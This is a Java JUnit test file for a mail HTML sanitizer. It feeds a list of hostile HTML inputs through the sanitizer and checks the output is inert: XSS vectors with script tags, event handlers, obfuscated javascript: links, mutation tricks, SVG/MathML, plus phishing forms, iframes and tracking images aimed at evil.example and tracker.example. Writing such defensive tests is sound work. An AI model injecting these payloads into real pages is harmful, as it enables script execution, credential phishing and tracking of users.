package org.baosong.editorial.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A corpus of hostile mail HTML: each case must come out inert (no script, no handler, no active URL,
 * no remote load, no style sheet, no SVG or MathML, no frames or forms), while the report's text survives.
 */
class MailHtmlSanitizerTest {

	static Stream<Arguments> hostile() {
		return Stream.of(
				Arguments.of("script element", "<p>正文</p><script>alert(1)</script>"),
				Arguments.of("script in upper case and split", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>正文</p>"),
				Arguments.of("event handler", "<p onmouseover=\"alert(1)\">正文</p>"),
				Arguments.of("image error handler", "<img src=x onerror=alert(1)><p>正文</p>"),
				Arguments.of("javascript link", "<a href=\"javascript:alert(1)\">正文</a>"),
				Arguments.of("javascript link with entities", "<a href=\"jav&#x09;ascript:alert(1)\">正文</a>"),
				Arguments.of("javascript link with spaces and case", "<a href=\" JaVaScRiPt:alert(1)\">正文</a>"),
				Arguments.of("vbscript link", "<a href=\"vbscript:msgbox(1)\">正文</a>"),
				Arguments.of("data html link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">正文</a>"),
				Arguments.of("noscript and style trick", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><p>正文</p>"),
				Arguments.of("style element", "<style>@import url(http://evil.example/x.css); body{background:url(javascript:alert(1))}</style><p>正文</p>"),
				Arguments.of("style attribute with url and expression",
						"<p style=\"background:url(http://evil.example/p.gif);width:expression(alert(1))\">正文</p>"),
				Arguments.of("svg with script", "<svg><script>alert(1)</script><circle onload=alert(1)></circle></svg><p>正文</p>"),
				Arguments.of("svg animate href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg><p>正文</p>"),
				Arguments.of("math with link", "<math><mtext><a href=\"javascript:alert(1)\">x</a></mtext></math><p>正文</p>"),
				Arguments.of("remote image (web bug)", "<p>正文</p><img src=\"http://tracker.example/open.gif?u=xxb\" width=1 height=1>"),
				Arguments.of("remote background attribute", "<table background=\"http://tracker.example/bg.gif\"><tr><td>正文</td></tr></table>"),
				Arguments.of("iframe", "<iframe src=\"http://evil.example/\"></iframe><p>正文</p>"),
				Arguments.of("object and embed", "<object data=\"http://evil.example/x.swf\"></object><embed src=\"x.swf\"><p>正文</p>"),
				Arguments.of("form phishing", "<form action=\"http://evil.example/login\"><input name=password><button>登录</button></form><p>正文</p>"),
				Arguments.of("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\"><p>正文</p>"),
				Arguments.of("base href", "<base href=\"http://evil.example/\"><a href=\"x\">正文</a>"),
				Arguments.of("link stylesheet", "<link rel=stylesheet href=\"http://evil.example/x.css\"><p>正文</p>"),
				Arguments.of("comment tricks", "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>正文</p>"),
				Arguments.of("unclosed attribute", "<p title=\"x><script>alert(1)</script>\">正文</p>"),
				Arguments.of("srcset remote", "<img srcset=\"http://tracker.example/a.gif 1x\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><p>正文</p>"),
				Arguments.of("formaction and autofocus", "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button><p>正文</p>"),
				Arguments.of("template and xmp", "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><p>正文</p>"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("hostile")
	void hostileHtmlIsRenderedInert(String name, String html) {
		String clean = MailHtmlSanitizer.sanitize(html).toLowerCase(Locale.ROOT);
		assertThat(clean).contains("正文");
		assertThat(clean).doesNotContain("<script", "<style", "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<button",
				"<meta", "<base", "<link", "<noscript", "<template");
		assertThat(clean).doesNotContainPattern("\\son[a-z]+\\s*=");
		assertThat(clean).doesNotContain("javascript:", "vbscript:", "data:text", "expression(");
		assertThat(clean).doesNotContain("evil.example", "tracker.example");
	}

	@Test
	void formattingTablesAndSafeLinksSurvive() {
		String clean = MailHtmlSanitizer.sanitize("<p align=\"center\"><b>越秀区</b><i>报告</i></p><table border=\"1\"><tr><td colspan=\"2\">数据</td></tr></table>"
				+ "<ul><li>一</li></ul><a href=\"https://www.gz.gov.cn/\">广州市政府</a><font color=\"red\">重点</font>");
		assertThat(clean).contains("<b>越秀区</b>", "<i>报告</i>", "<table", "<td colspan=\"2\">数据</td>", "<li>一</li>", "<font color=\"red\">重点</font>")
			.contains("href=\"https://www.gz.gov.cn/\"").containsPattern("rel=\"[^\"]*noopener")
			.containsPattern("rel=\"[^\"]*noreferrer").containsPattern("rel=\"[^\"]*nofollow");
	}

	@Test
	void embeddedImagesSurviveRemoteOnesDoNot() {
		String embedded = "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\" alt=\"图\">";
		assertThat(MailHtmlSanitizer.sanitize(embedded)).contains("<img").contains("data:image/png;base64,");
		// what is left of a remote or SVG image has no source: it loads and runs nothing
		assertThat(MailHtmlSanitizer.sanitize("<img src=\"https://tracker.example/x.png\" alt=\"图\">")).doesNotContain("src=", "tracker");
		assertThat(MailHtmlSanitizer.sanitize("<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">")).doesNotContain("src=", "svg");
	}

	@Test
	void theFrameDocumentIsAWholePageWithoutReferrer() {
		assertThat(MailHtmlSanitizer.document("<p>正文</p>")).startsWith("<!DOCTYPE html>").contains("no-referrer").contains("<p>正文</p>");
	}
}
